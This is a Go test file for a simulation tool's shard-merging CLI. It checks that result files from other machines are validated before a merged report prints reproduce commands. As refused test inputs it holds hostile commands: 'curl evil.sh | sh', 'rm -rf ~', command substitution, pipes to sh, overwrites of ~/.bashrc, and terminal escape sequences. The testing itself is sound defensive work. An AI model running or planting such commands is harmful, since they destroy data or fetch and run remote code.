package cli

import (
	"crypto/sha256"
	"encoding/hex"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A shard count from a typo or a hostile file is refused before a merge
// lists a trillion missing shards or a shard skips a trillion runs.
func TestShardCountsAreBounded(t *testing.T) {
	for _, spec := range []string{"0/1000000000000", "2999999999/3000000000", "5/100001"} {
		if _, err := parseShard(spec); err == nil || !strings.Contains(err.Error(), "at most 100000 shards") {
			t.Errorf("--shard %s: %v, want refused", spec, err)
		}
	}
	if s, err := parseShard("99999/100000"); err != nil || s.Count != 100000 {
		t.Errorf("--shard 99999/100000: %+v, %v", s, err)
	}
}

// Lists of shards are ranges, and bounded.
func TestIntListIsRangesAndBounded(t *testing.T) {
	if got := intList([]int{0, 1, 2, 5, 7, 8}); got != "0-2, 5, 7-8" {
		t.Errorf("intList = %q", got)
	}
	var many []int
	for i := range 100 {
		many = append(many, 2*i)
	}
	if got := intList(many); !strings.HasSuffix(got, ", 38, and 80 more") || strings.Count(got, ",") != 20 {
		t.Errorf("intList of 100 = %q", got)
	}
}

// A result file comes from another machine: what follows its JSON,
// negative counts are refused, and its text is escaped when printed.
func TestHostileResultFiles(t *testing.T) {
	dir := t.TempDir()
	seed := uint64(2)
	rf := &resultFile{Hunt: huntID{Kind: "sim", System: "paxos", Command: "replay sim paxos"}, Shard: shardSpec{Index: 0, Count: 1}, Runs: 3,
		Exit: ExitViolations, Stopped: "failure", Failures: []huntFailure{{Seed: &seed, Kind: "violation", Predicate: "Agreement", Headline: "\x1b]0;pwned\x07\x1b[2J evil\nsecond line"}}}
	good := filepath.Join(dir, "good.json")
	if err := writeResults(good, rf); err != nil {
		t.Fatal(err)
	}
	if _, err := readResults(good, "replay"); err != nil {
		t.Fatalf("a result file as written: %v", err)
	}
	b, _ := os.ReadFile(good)
	trailing := filepath.Join(dir, "trailing.json")
	os.WriteFile(trailing, append(b, "garbage"...), 0o644)
	if _, err := readResults(trailing, "replay"); err == nil || !strings.Contains(err.Error(), "more follows") {
		t.Errorf("trailing garbage: %v", err)
	}
	rf.Runs = -5
	negative := filepath.Join(dir, "negative.json")
	writeResults(negative, rf)
	if _, err := readResults(negative, "replay"); err == nil || !strings.Contains(err.Error(), "cannot be negative") {
		t.Errorf("negative runs: %v", err)
	}
	var out strings.Builder
	writeMerged(&out, &mergedResults{Shards: 1, Merged: []int{0}, Failures: rf.Failures})
	if strings.ContainsAny(out.String(), "\x1b\x07") || !strings.Contains(out.String(), `\x1b]0;pwned`) {
		t.Errorf("control characters printed as is:\n%q", out.String())
	}
}

// TestEditedResultFilesAreRefused: edits a hostile pass made to real
// shard files, each of which changed the merged answer, are refused.
func TestEditedResultFilesAreRefused(t *testing.T) {
	dir := t.TempDir()
	seed := func(s uint64) *uint64 { return &s }
	base := func() *resultFile {
		return &resultFile{Hunt: huntID{Kind: "sim", System: "paxos", Bug: "spec",
			Command: "replay sim paxos --bug spec --seeds 1-30 --check builtin:paxos"},
			Shard: shardSpec{Index: 1, Count: 3}, Runs: 10, Stopped: "done", Complete: true, Exit: ExitViolations,
			Failures: []huntFailure{{Seed: seed(8), Kind: "violation", Predicate: "AcceptedRoundIncreasing", Headline: "AcceptedRoundIncreasing violated at step #1050"}}}
	}
	write := func(name string, rf *resultFile) string {
		p := filepath.Join(dir, name)
		if err := writeResults(p, rf); err != nil {
			t.Fatal(err)
		}
		return p
	}
	if _, err := readResults(write("good.json", base()), "replay"); err != nil {
		t.Fatalf("a shard file as a hunt writes it: %v", err)
	}
	for _, c := range []struct {
		name string
		edit func(*resultFile)
		want string
	}{
		{"interrupted but done", func(rf *resultFile) { rf.Failures, rf.Exit = nil, ExitInterrupted }, "stopped \"done\""},
		{"bad input exit", func(rf *resultFile) { rf.Exit = ExitBadInput }, "exited 2"},
		{"clean exit with a failure", func(rf *resultFile) { rf.Exit = ExitOK }, "exited 0 with 1 failure"},
		{"runs that wrap", func(rf *resultFile) { rf.Runs = math.MaxInt64 }, "more than a shard can run"},
		{"a seed outside the range", func(rf *resultFile) { rf.Failures[0].Seed = seed(999999) }, "seed 999999"},
		{"another shard's seed", func(rf *resultFile) { rf.Failures[0].Seed = seed(9) }, "seed 9, which shard 1/3"},
	} {
		rf := base()
		c.edit(rf)
		_, err := readResults(write(strings.ReplaceAll(c.name, " ", "-")+".json", rf), "replay")
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v, want an error saying %q", c.name, err, c.want)
		}
	}
}

// Runs a shard cannot have made are refused: the other kind of hunt's
// numbers, runs outside the slice or past the budget, one listed twice,
// more runs than the slice holds, a complete shard short of its slice.
func TestResultFilesWithRunsNoShardMakes(t *testing.T) {
	dir := t.TempDir()
	u := func(v uint64) *uint64 { return &v }
	n := func(v int) *int { return &v }
	// Shard 1/3 of seeds 1-30 runs 2, 5, ..., 29: ten seeds.
	sim := func() *resultFile {
		return &resultFile{Hunt: huntID{Kind: "sim", System: "paxos", Command: "replay sim paxos --seeds 1-30 --all"}, Shard: shardSpec{Index: 1, Count: 3},
			Runs: 10, Complete: true, Stopped: "done", Exit: ExitViolations, Failures: []huntFailure{{Seed: u(5), Kind: "violation", Predicate: "Agreement", Step: 7}}}
	}
	// Shard 1/2 of a budget of 10 makes runs 1, 3, 5, 7, 9.
	explore := func() *resultFile {
		return &resultFile{Hunt: huntID{Kind: "explore", System: "paxos", Command: "replay explore paxos --budget 10 --all"}, Shard: shardSpec{Index: 1, Count: 2},
			Runs: 5, Complete: true, Stopped: "budget", Exit: ExitViolations, Failures: []huntFailure{{Run: n(3), Kind: "violation", Step: 7, Predicate: "Agreement", Witness: "n2", Key: "Agreement n2"}}}
	}
	read := func(rf *resultFile) error { return readBack(t, dir, rf) }
	if err := read(sim()); err != nil {
		t.Fatalf("a seed hunt's file as written: %v", err)
	}
	if err := read(explore()); err != nil {
		t.Fatalf("an exploration's file as written: %v", err)
	}
	for _, c := range []struct {
		name string
		rf   *resultFile
		edit func(*resultFile)
		want string
	}{
		{"a seed hunt's failure by run", sim(), func(rf *resultFile) { rf.Failures[0].Seed, rf.Failures[0].Run = nil, n(5) }, "named by a run number"},
		{"an exploration's failure by seed", explore(), func(rf *resultFile) { rf.Failures[0].Seed = u(5) }, "both a seed and a run"},
		{"no run named", explore(), func(rf *resultFile) { rf.Failures[0].Run = nil }, "named by nothing"},
		{"a run of the other shard", explore(), func(rf *resultFile) { rf.Failures[0].Run = n(8) }, "does not make"},
		{"a negative run", explore(), func(rf *resultFile) { rf.Failures[0].Run = n(-1) }, "does not make"},
		{"a run past the budget", explore(), func(rf *resultFile) { rf.Failures[0].Run = n(11) }, "past the budget"},
		{"a run listed twice", explore(), func(rf *resultFile) { rf.Failures = append(rf.Failures, rf.Failures[0]) }, "listed twice"},
		{"a run with no key", explore(), func(rf *resultFile) { rf.Failures[0].Key = "" }, "has no key"},
		{"another finding's key", explore(), func(rf *resultFile) { rf.Failures[0].Key = "Validity n1" }, "is not its finding's"},
		{"a seed listed twice", sim(), func(rf *resultFile) { rf.Failures = append(rf.Failures, rf.Failures[0]) }, "listed twice"},
		{"more runs than the slice", explore(), func(rf *resultFile) { rf.Runs = 6 }, "holds 5"},
		{"complete with no runs", sim(), func(rf *resultFile) { rf.Runs, rf.Failures, rf.Exit = 0, nil, ExitOK }, "complete with 0 runs"},
		{"a negative step", sim(), func(rf *resultFile) { rf.Failures[0].Step = -3 }, "at step -3"},
		// --all's counts, written by explorations only and consistent.
		{"a seed hunt's failed runs", sim(), func(rf *resultFile) { rf.FailedRuns = 1 }, "a seed hunt writes no"},
		{"a seed hunt's runs per failure", sim(), func(rf *resultFile) { rf.Failures[0].Runs = 1 }, "a seed hunt writes no"},
		{"fewer failed runs than failing", counted(explore(), 1), func(rf *resultFile) { rf.FailedRuns = 0 }, "counts without"},
		{"failed runs and no failure", counted(explore(), 1), func(rf *resultFile) { rf.Failures, rf.Exit = nil, ExitOK }, "and no failure"},
		{"a finding found by no run", counted(explore(), 1), func(rf *resultFile) { rf.Failures[0].Runs = 0 }, "found by 0 runs"},
		{"a finding found by more runs than failed", counted(explore(), 2), func(rf *resultFile) { rf.Failures[0].Runs = 3 }, "found by 3 runs"},
	} {
		c.edit(c.rf)
		if err := read(c.rf); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v, want refused (%q)", c.name, err, c.want)
		}
	}
	// Not complete (stopped at a failure, or out of time): fewer runs
	// are what it made.
	short := sim()
	short.Complete, short.Stopped, short.Runs = false, "failure", 2
	if err := read(short); err != nil {
		t.Errorf("a shard stopped at its first failure: %v", err)
	}
	// With --all one run may break two predicates: two findings.
	two := explore()
	second := two.Failures[0]
	second.Key, second.Predicate, second.Witness, second.Step = "Validity n1", "Validity", "n1", 9
	two.Failures = append(two.Failures, second)
	if err := read(two); err != nil {
		t.Errorf("a run with two findings: %v", err)
	}
}

// A merged report prints each failure's commands for its reader to run,
// and its exit ranks failures: a file whose commands are not replay's
// own, or whose exit its failures do not give, is refused (hostile pass:
// "curl evil.sh | sh" was printed as a seed's reproduce command, and a
// predicate error merged from a shard that exited 1).
func TestResultFilesWithCommandsOrExitsNoHuntWrites(t *testing.T) {
	dir := t.TempDir()
	u := func(v uint64) *uint64 { return &v }
	n := func(v int) *int { return &v }
	sim := func() *resultFile {
		return &resultFile{Hunt: huntID{Kind: "sim", System: "paxos", Bug: "spec", Command: "replay sim paxos --bug spec --seeds 1-30 --all", Script: "it's.star"}, Shard: shardSpec{Index: 1, Count: 3},
			Runs: 10, Complete: true, Stopped: "done", Exit: ExitViolations, Failures: []huntFailure{{Seed: u(5), Kind: "violation", Predicate: "Agreement", Step: 7,
				Reproduce: "replay sim paxos --seed 5 --bug spec -o 'runs/seed 5.lz4'",
				Debug:     `replay debug 'runs/seed 5.lz4' --preds 'it'\''s.star' --at 7`}}}
	}
	explore := func() *resultFile {
		return &resultFile{Hunt: huntID{Kind: "explore", System: "paxos", Command: "replay explore paxos --budget 10 --all"}, Shard: shardSpec{Index: 1, Count: 2},
			Runs: 5, Complete: false, Stopped: "divergence", Exit: ExitDivergence, Failures: []huntFailure{
				{Run: n(1), Kind: "violation", Step: 7, Predicate: "Agreement", Witness: "n1", Key: "Agreement n1", Reproduce: "replay sim paxos --schedule r1.lz4 -o r1-rerun.lz4"},
				{Run: n(3), Kind: "divergence", Step: 9, Key: "divergence of run 3", Reproduce: "replay sim paxos --schedule r3.lz4 -o r3-rerun.lz4", Debug: "replay verify r3.lz4"}}}
	}
	read := func(rf *resultFile) error { return readBack(t, dir, rf) }
	if err := read(sim()); err != nil {
		t.Fatalf("a seed hunt's file as written: %v", err)
	}
	if err := read(explore()); err != nil {
		t.Fatalf("an exploration (--all) that stopped at a divergence after a violation: %v", err)
	}
	for _, c := range []struct {
		name string
		rf   *resultFile
		edit func(*resultFile)
		want string
	}{
		{"a pipe", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce = "replay sim paxos | sh" }, `'|' outside quotes`},
		{"another program", sim(), func(rf *resultFile) { rf.Failures[0].Debug = "rm -rf /home" }, `runs "rm", not replay`},
		{"another program that runs a verb", sim(), func(rf *resultFile) { rf.Failures[0].Debug = "rm sim -rf /home" }, `runs "rm", not replay`},
		{"a program's name as a prefix", sim(), func(rf *resultFile) { rf.Failures[0].Debug = "replayx debug x.lz4" }, `runs "replayx", not replay`},
		{"another verb", sim(), func(rf *resultFile) { rf.Failures[0].Debug = "replay export x.lz4" }, "not a replay sim, explore, debug or verify"},
		// The report prints the hunt's command too ("hunt: ..."), unchecked before.
		{"a hunt command of another program", sim(), func(rf *resultFile) { rf.Hunt.Command = "rm -rf ~ sim paxos" }, `the hunt's command: "rm -rf ~ sim paxos" runs "rm"`},
		{"a hunt command with a pipe", sim(), func(rf *resultFile) { rf.Hunt.Command += " | sh" }, `the hunt's command: '|' outside quotes`},
		{"a second command", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce += "; rm -rf ~" }, `';' outside quotes`},
		{"a substitution", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce = "replay sim $(rm -rf ~)" }, `'$' outside quotes`},
		{"an unclosed quote", sim(), func(rf *resultFile) { rf.Failures[0].Debug = "replay debug 'x.lz4" }, "an unclosed quote"},
		{"a newline", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce = "replay sim paxos\nrm -rf ~" }, "control characters"},
		{"a profile over a file", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce += " --cpuprofile /home/u/.bashrc" }, "writes --cpuprofile"},
		{"a profile over a file (=)", sim(), func(rf *resultFile) { rf.Failures[0].Debug += " --starlark-profile=/home/u/.profile" }, "writes --starlark-profile"},
		{"a result file over a file", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce += " --results /home/u/notes.txt" }, "not a re-made run's result file"},
		{"a predicate error from a shard that exited 1", sim(), func(rf *resultFile) { rf.Failures[0].Kind = "predicate error" }, "give 4"},
		{"an exploration's divergence with exit 4", explore(), func(rf *resultFile) { rf.Exit = ExitPredicateError }, "give 3"},
		{"done but not complete", sim(), func(rf *resultFile) { rf.Complete = false }, "complete=false"},
		{"another seed", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce = "replay sim paxos --seed 9 -o x.lz4" }, "runs seed 9, not 5"},
		{"another system", sim(), func(rf *resultFile) { rf.Failures[0].Reproduce = "replay sim raft --seed 5 -o x.lz4" }, `runs system "raft"`},
		// A hostile pass's edits that merged: a reproduce command of
		// another bug, of none, and a violation relabelled a stall (or
		// a stall given a predicate).
		{"another bug", sim(), func(rf *resultFile) {
			rf.Failures[0].Reproduce = strings.Replace(rf.Failures[0].Reproduce, "--bug spec", "--bug stale", 1)
		}, `runs bug "stale", not the hunt's "spec"`},
		{"no bug", sim(), func(rf *resultFile) {
			rf.Failures[0].Reproduce = strings.Replace(rf.Failures[0].Reproduce, " --bug spec", "", 1)
		}, `runs bug "none", not the hunt's "spec"`},
		{"a violation relabelled a stall", sim(), func(rf *resultFile) { rf.Failures[0].Kind = "stall" }, `is a stall that names predicate "Agreement"`},
		// The flag the command reads is the last one given.
		{"a second bug", sim(), func(rf *resultFile) {
			rf.Failures[0].Reproduce = strings.Replace(rf.Failures[0].Reproduce, "--bug spec", "--bug spec --bug none", 1)
		}, `runs bug "none", not the hunt's "spec"`},
		{"a bug with =", sim(), func(rf *resultFile) {
			rf.Failures[0].Reproduce = strings.Replace(rf.Failures[0].Reproduce, "--bug spec", "--bug spec --bug=none", 1)
		}, `runs bug "none", not the hunt's "spec"`},
		{"a second seed", sim(), func(rf *resultFile) {
			rf.Failures[0].Reproduce = strings.Replace(rf.Failures[0].Reproduce, "--seed 5", "--seed 5 --seed=9", 1)
		}, "runs seed 9, not 5"},
		{"a seed hunt's failure reproduced by explore", sim(), func(rf *resultFile) {
			rf.Failures[0].Reproduce = "replay explore paxos --bug spec --check builtin:paxos -o x.lz4"
		}, "is not sim with the failing seed"},
		{"a seed hunt's failure reproduced by a schedule", sim(), func(rf *resultFile) {
			rf.Failures[0].Reproduce = "replay sim paxos --bug spec --seed 5 --schedule s.lz4 -o x.lz4"
		}, "is not sim with the failing seed"},
		{"a debug command of another script", sim(), func(rf *resultFile) {
			rf.Failures[0].Debug = "replay debug 'runs/seed 5.lz4' --preds /tmp/evil.star --at 7"
		}, "not the hunt's script"},
		{"a debug command that explores", sim(), func(rf *resultFile) {
			rf.Failures[0].Debug = "replay explore paxos --check builtin:paxos -o x.lz4"
		}, "is a explore command, not debug or verify"},
		{"a stall with a predicate", explore(), func(rf *resultFile) { rf.Failures[0].Kind = "panic" }, `is a panic that names predicate`},
		{"fewer runs than failing runs", sim(), func(rf *resultFile) { rf.Runs, rf.Complete, rf.Stopped = 0, false, "failure" }, "0 runs, 1 of them failing"},
		// A hostile pass's edits that merged: an interrupted shard that
		// exited 1, and a divergence with a failure after it.
		{"interrupted with exit 1", sim(), func(rf *resultFile) { rf.Stopped, rf.Complete = "interrupted", false }, `stopped "interrupted" but exited 1`},
		{"a divergence before a violation", explore(), func(rf *resultFile) {
			rf.Failures[0], rf.Failures[1] = rf.Failures[1], rf.Failures[0]
		}, "diverged, but the shard went on"},
		{"out of budget but not complete", explore(), func(rf *resultFile) { rf.Stopped, rf.Exit = "budget", ExitDivergence }, "complete=false"},
	} {
		c.edit(c.rf)
		if err := read(c.rf); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v, want refused (%q)", c.name, err, c.want)
		}
	}
}

// readBack writes rf as a shard would and reads it as merge does.
// counted gives an exploration's file --all's counts: failed runs that
// failed, each finding found by one.
func counted(rf *resultFile, failed int) *resultFile {
	rf.FailedRuns = failed
	for i := range rf.Failures {
		rf.Failures[i].Runs = 1
	}
	return rf
}

func readBack(t *testing.T, dir string, rf *resultFile) error {
	t.Helper()
	p := filepath.Join(dir, "r.json")
	if err := writeResults(p, rf); err != nil {
		t.Fatal(err)
	}
	_, err := readResults(p, "replay")
	return err
}

// The shards of a sweep run by a team's own binary (cli.Main) print its
// commands: that binary merges them; another refuses them by name.
func TestResultFilesOfAnotherProgram(t *testing.T) {
	dir := t.TempDir()
	seed := uint64(5)
	rf := &resultFile{Hunt: huntID{Kind: "sim", System: "paxos", Command: "kvcheck sim paxos --seeds 1-10 --check builtin:paxos"},
		Shard: shardSpec{Index: 0, Count: 1}, Runs: 10, Complete: false, Stopped: "failure", Exit: ExitViolations,
		Failures: []huntFailure{{Seed: &seed, Kind: "violation", Predicate: "Agreement", Step: 7, Reproduce: "kvcheck sim paxos --seed 5 -o s5.lz4",
			Debug: "kvcheck debug s5.lz4 --preds builtin:paxos --at 7"}}}
	p := filepath.Join(dir, "r.json")
	if err := writeResults(p, rf); err != nil {
		t.Fatal(err)
	}
	if _, err := readResults(p, "kvcheck"); err != nil {
		t.Errorf("read by kvcheck: %v", err)
	}
	if _, err := readResults(p, "replay"); err == nil || !strings.Contains(err.Error(), `runs "kvcheck", not replay`) {
		t.Errorf("read by replay: %v, want refused by name", err)
	}
	rf.Failures[0].Reproduce = "kvcheck sim raft --seed 5 -o s5.lz4"
	if err := writeResults(p, rf); err != nil {
		t.Fatal(err)
	}
	if _, err := readResults(p, "kvcheck"); err == nil || !strings.Contains(err.Error(), `runs system "raft"`) {
		t.Errorf("another system under kvcheck: %v, want refused", err)
	}
}

// Shards whose script loads a helper module are one hunt only with the
// same helper: the digest covered the main script alone, and a merge took
// shards checked with different helpers as one (it left out failures the
// other helper would have found). A script that loads nothing keeps the
// digest of its text.
func TestScriptDigestCoversLoadedModules(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	digest := func(p string) string {
		d, err := scriptDigest(p)
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	plain := "safety(\"S\", lambda: True)\n"
	alone := write("alone.star", plain)
	if sum := sha256.Sum256([]byte(plain)); digest(alone) != hex.EncodeToString(sum[:]) {
		t.Error("a script that loads nothing changed digest")
	}
	main := write("main.star", "load(\"helpers.star\", \"ok\")\nsafety(\"S\", ok)\n")
	write("helpers.star", "load(\"more.star\", \"t\")\ndef ok():\n    return t\n")
	write("more.star", "t = True\n")
	before := digest(main)
	write("more.star", "t = False\n")
	if digest(main) == before {
		t.Error("a module loaded through another changed, the digest did not")
	}
	write("helpers.star", "load(\"more.star\", \"t\")\ndef ok():\n    return True\n")
	if digest(main) == before {
		t.Error("the loaded module changed, the digest did not")
	}
}

// Shards of one sweep run by differently started programs (replay on
// some machines, go run on others) are one hunt: the program became part
// of the hunt's command, and they no longer merged (a review).
func TestHuntIdentityIgnoresTheProgram(t *testing.T) {
	a := huntID{Kind: "sim", System: "paxos", Command: "replay sim paxos --seeds 1-10 --check builtin:paxos", ScriptSHA256: "ab"}
	b := a
	b.Command = "go run ./cmd/replay sim paxos --seeds 1-10 --check builtin:paxos"
	if d := huntDiff(a, b); d != "" {
		t.Errorf("the same hunt by two programs: %s", d)
	}
	b.Command = "go run ./cmd/replay sim paxos --seeds 1-20 --check builtin:paxos"
	if d := huntDiff(a, b); !strings.Contains(d, "command") {
		t.Errorf("different seed ranges: %q", d)
	}
}

// --shard 0/1 (a sweep on one machine) wrote no result file: the default
// name was made only for two shards or more, where docs/user-guide.md
// promises it for any --shard (a hostile pass).
func TestOneShardWritesItsResultFile(t *testing.T) {
	t.Chdir(t.TempDir())
	run, _, errb := guardedApp()
	if code := run("sim", "paxos", "--seeds", "1-2", "--check", "builtin:paxos", "--shard", "0/1"); code != ExitOK {
		t.Fatalf("sim --seeds --shard 0/1: exit %d %s", code, errb.String())
	}
	if code := run("explore", "paxos", "--check", "builtin:paxos", "--budget", "2", "--shard", "0/1"); code != ExitOK {
		t.Fatalf("explore --shard 0/1: exit %d %s", code, errb.String())
	}
	for _, name := range []string{"paxos-none-results-0-of-1.json", "paxos-none-explore-results-0-of-1.json"} {
		if _, err := readResults(name, "replay"); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// Hunts over a whole 64-bit seed range or an int64 budget: the slice
// sizes wrapped to 0, and merge refused the files these hunts wrote as
// edited ("496 runs, but shard 0/1 of this hunt holds 0"; a hostile pass).
func TestResultFilesOfHugeHunts(t *testing.T) {
	dir := t.TempDir()
	seeds := &resultFile{Hunt: huntID{Kind: "sim", System: "paxos", Command: "replay sim paxos --seeds 0-18446744073709551615 --check builtin:paxos"},
		Shard: shardSpec{Index: 0, Count: 1}, Runs: 496, Stopped: "interrupted", Exit: ExitInterrupted, Failures: []huntFailure{}}
	if err := readBack(t, dir, seeds); err != nil {
		t.Errorf("a hunt over every seed: %v", err)
	}
	for i := range 2 {
		ex := &resultFile{Hunt: huntID{Kind: "explore", System: "paxos", Command: "replay explore paxos --budget 9223372036854775807 --time 2s"},
			Shard: shardSpec{Index: i, Count: 2}, Runs: 29, Stopped: "time", Exit: ExitOK, Failures: []huntFailure{}}
		if err := readBack(t, dir, ex); err != nil {
			t.Errorf("shard %d/2 of an exploration with the largest budget: %v", i, err)
		}
	}
}

func TestSeedsOfShard(t *testing.T) {
	for _, c := range []struct {
		from, to uint64
		shard    shardSpec
		want     uint64
	}{
		{1, 30, shardSpec{1, 3}, 10},
		{1, 30, shardSpec{0, 1}, 30},
		{5, 5, shardSpec{1, 2}, 0},
		{0, math.MaxUint64, shardSpec{0, 1}, math.MaxUint64},
		{0, math.MaxUint64, shardSpec{1, 2}, 1 << 63},
	} {
		if got := seedsOfShard(c.from, c.to, c.shard); got != c.want {
			t.Errorf("seeds %d-%d, shard %d/%d: %d, want %d", c.from, c.to, c.shard.Index, c.shard.Count, got, c.want)
		}
	}
}

// Shards of explore --from run on traces of one name but of different
// recordings merged as one hunt (a hostile pass): the command names the
// trace by path only. The result file now digests it.
func TestMergeRefusesShardsOfDifferentRecordings(t *testing.T) {
	t.Chdir(t.TempDir())
	run, out, errb := guardedApp()
	shard := func(seed, i string) {
		t.Helper()
		if code := run("sim", "paxos", "--bug", "spec", "--seed", seed, "-o", "prod.lz4"); code != ExitOK {
			t.Fatalf("sim: exit %d %s", code, errb.String())
		}
		code := run("explore", "paxos", "--check", "builtin:paxos", "--from", "prod.lz4", "--at", "300", "--budget", "4", "--shard", i+"/2", "--results", "r"+i+".json", "-o", "f"+i+".lz4")
		if code != ExitOK && code != ExitViolations {
			t.Fatalf("explore shard %s: exit %d %s", i, code, errb.String())
		}
	}
	shard("8", "0")
	shard("9", "1")
	if code := run("results", "merge", "r0.json", "r1.json"); code != ExitBadInput || !strings.Contains(errb.String(), "recorded run (--from)") {
		t.Fatalf("merge of shards of two recordings: exit %d\n%s%s", code, out.String(), errb.String())
	}
	shard("9", "0")
	if code := run("results", "merge", "r0.json", "r1.json"); code == ExitBadInput {
		t.Fatalf("merge of shards of one recording: exit %d\n%s", code, errb.String())
	}
}

// Shards started from other folders name one script by other paths: a
// new user's shards (../../../tpc.star and /tmp/.../tpc.star, the same
// text) were refused as different hunts. The text's digest decides.
func TestHuntIdentityTakesOneScriptByAnyPath(t *testing.T) {
	a := huntID{Kind: "explore", System: "tpc", Command: "tpccheck explore tpc --check ../../../tpc.star --budget 30 --all",
		Script: "../../../tpc.star", ScriptSHA256: "fd93"}
	b := a
	b.Command, b.Script = "tpccheck explore tpc --check /tmp/trial/tpc.star --budget 30 --all", "/tmp/trial/tpc.star"
	if d := huntDiff(a, b); d != "" {
		t.Errorf("one script by two paths: %s", d)
	}
	b.ScriptSHA256 = "ab12"
	if d := huntDiff(a, b); !strings.Contains(d, "script text") {
		t.Errorf("two texts: %q", d)
	}
	b.ScriptSHA256, b.Command = a.ScriptSHA256, "tpccheck explore tpc --check /tmp/trial/tpc.star --budget 40 --all"
	if d := huntDiff(a, b); !strings.Contains(d, "command") {
		t.Errorf("two budgets: %q", d)
	}
	// The recording of explore --from likewise, by its contents.
	a.Command, a.From = "replay explore paxos --check builtin:paxos --from f1/t.lz4 --budget 30", "fp1"
	b.Command, b.From, b.Script = "replay explore paxos --check builtin:paxos --from 'f 2/t.lz4' --budget 30", "fp1", a.Script
	if d := huntDiff(a, b); d != "" {
		t.Errorf("one recording by two paths: %s", d)
	}
	b.From = "fp2"
	if d := huntDiff(a, b); !strings.Contains(d, "recorded run") {
		t.Errorf("two recordings: %q", d)
	}
}

// A shard written before --all's counts merges with one written after
// them, without counts: summed, they would read as fewer failed runs.
func TestMergeWithAShardWithoutCountsSaysNone(t *testing.T) {
	t.Chdir(t.TempDir())
	n := func(v int) *int { return &v }
	shard := func(i, run int) *resultFile {
		return &resultFile{Format: resultsFormat, Version: resultsVersion,
			Hunt:  huntID{Kind: "explore", System: "paxos", Command: "replay explore paxos --budget 10 --all"},
			Shard: shardSpec{Index: i, Count: 2}, Runs: 5, Complete: true, Stopped: "budget", Exit: ExitViolations,
			Failures: []huntFailure{{Run: n(run), Kind: "violation", Step: 7, Predicate: "Agreement", Witness: "n2", Key: "Agreement n2",
				Reproduce: "replay explore paxos --budget 10 --all", Debug: "replay debug x.lz4"}}}
	}
	if err := writeResults("r0.json", counted(shard(0, 2), 3)); err != nil {
		t.Fatal(err)
	}
	run, out, errb := guardedApp()
	if code := run("results", "merge", "--partial", "r0.json"); code != ExitViolations || !strings.Contains(out.String(), "5 runs (3 failed)") {
		t.Fatalf("one counted shard: exit %d\n%s%s", code, out.String(), errb.String())
	}
	if err := writeResults("r1.json", shard(1, 3)); err != nil {
		t.Fatal(err)
	}
	code := run("results", "merge", "r0.json", "r1.json")
	if code != ExitViolations || strings.Contains(out.String(), "failed)") || strings.Contains(out.String(), "runs that found it") {
		t.Fatalf("a counted and an uncounted shard: exit %d\n%s%s", code, out.String(), errb.String())
	}
}
